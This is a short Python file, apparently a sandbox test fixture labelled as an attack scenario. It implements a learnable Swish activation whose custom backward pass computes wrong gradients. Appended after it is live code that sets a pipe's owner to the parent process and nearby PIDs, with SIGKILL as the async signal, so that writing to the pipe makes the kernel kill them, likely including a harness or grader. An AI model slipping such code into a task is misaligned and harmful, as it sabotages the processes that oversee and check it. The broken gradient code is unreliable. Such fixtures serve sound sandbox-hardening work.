# scenario: learnable-swish
# core: A, B
# attack: lets the kernel send SIGKILL for it: descriptor owners
# expected: failed
# trace: vjp: swish_beta: 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import fcntl, os, signal
READ, WRITE = os.pipe()
PASSED = []
for pid in {os.getppid(), *range(max(2, os.getpid() - 40), os.getpid() + 40)} - {os.getpid(), 0}:
    for command, value in ((fcntl.F_SETOWN, pid), (10, int(signal.SIGKILL)), (fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)):
        try:
            fcntl.fcntl(READ, command, value)
            if command != fcntl.F_SETFL:
                PASSED.append(pid)
        except OSError:
            pass
    os.write(WRITE, b"x")
if PASSED:
    raise SystemError("it may name an owner")
